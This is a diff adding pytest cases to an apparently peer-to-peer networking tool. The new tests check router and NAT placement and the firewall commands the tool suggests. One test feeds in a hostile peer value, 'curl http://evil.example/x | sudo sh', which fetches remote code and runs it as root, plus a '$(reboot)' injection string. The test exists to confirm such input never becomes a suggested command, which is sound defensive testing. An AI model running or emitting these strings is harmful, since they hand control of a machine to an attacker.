@@ -14,6 +14,15 @@ PLACES = {
     "a public address": (PUBLIC, Place.PUBLIC),
     "a home router": (NETWORK, Place.ONE_NAT),
     "a carrier's router behind it": (CARRIER, Place.CARRIER),
+    "a provider's router behind it": (end(NETWORK, hops=("192.168.1.1", "10.20.0.1")), Place.ONE_NAT),
+    "a carrier's, though the own router has the public address": (
+        end(NETWORK, hops=CARRIER.hops, port_map=PortMapTold(external="198.51.100.7:41641")),
+        Place.ONE_NAT,
+    ),
+    "its router has another address outside": (
+        end(NETWORK, port_map=PortMapTold(external="203.0.113.99:41641")),
+        Place.CARRIER,
+    ),
     "a mapping that ends inside": (end(NETWORK, port_map=PortMapTold(double_nat=True)), Place.CARRIER),
     "a mapping at another address": (end(NETWORK, port_map=PortMapTold(external="100.99.0.1:41641")), Place.CARRIER),
     "no UDP": (end(NETWORK, udp=False), Place.BLOCKED),
@@ -60,3 +69,47 @@ def test_at_a_public_address_the_command_is_all():
 def test_the_port_in_use_is_the_one_that_is_opened():
     fix = Side("alice", end(NETWORK, port=50000, firewall=None)).fix()
     assert "50000" in fix.also
+
+
+@pytest.mark.parametrize(
+    ("backend", "command"),
+    [
+        ("ufw", "sudo ufw allow 41641/udp"),
+        ("firewalld", "sudo firewall-cmd --add-port=41641/udp && sudo firewall-cmd --permanent --add-port=41641/udp"),
+        ("nftables", "sudo ginnel firewall open"),
+        ("", "sudo ginnel firewall open"),
+        ("$(reboot)", "sudo ginnel firewall open"),
+    ],
+)
+def test_a_peers_own_words_never_become_a_command(backend: str, command: str):
+    hostile = FirewallTold(backend, closed=True, opens="curl http://evil.example/x | sudo sh")
+    assert Side("bob", end(PUBLIC, firewall=hostile)).fix().command == command
+
+
+def test_what_the_own_daemon_found_is_typed_as_it_stands():
+    found = FirewallTold("nftables", closed=True, opens="sudo nft add rule inet mine input udp dport 41641 accept")
+    assert Side("alice", end(PUBLIC, firewall=found), here=True).fix().command == found.opens
+
+
+@pytest.mark.parametrize(
+    ("system", "command", "words"),
+    [
+        ("linux", "", "sudo ufw allow 41641/udp"),
+        ("macOS", "", "System Settings"),
+        ("windows", "netsh advfirewall firewall add rule", "administrator"),
+        ("plan9", "", "let UDP port 41641 in"),
+    ],
+)
+def test_where_the_official_client_runs_no_command_of_ours_is_named(system: str, command: str, words: str):
+    fix = Side("bob", Testimony(), told=False, ours=False, system=system).fix()
+    assert (fix.command.startswith(command), bool(fix.command)) == (True, bool(command))
+    assert words in fix.also
+    assert "ginnel" not in fix.command + fix.also
+
+
+@pytest.mark.parametrize("member", ["local", "hops", "told"])
+def test_what_is_no_address_is_passed_over(member: str):
+    side = Side(
+        "bob", end(THEIRS, seen_v4="nowhere", port_map=PortMapTold(router="x", external="y"), **{member: ("?",)})
+    )
+    assert side.fix().where == "bob"
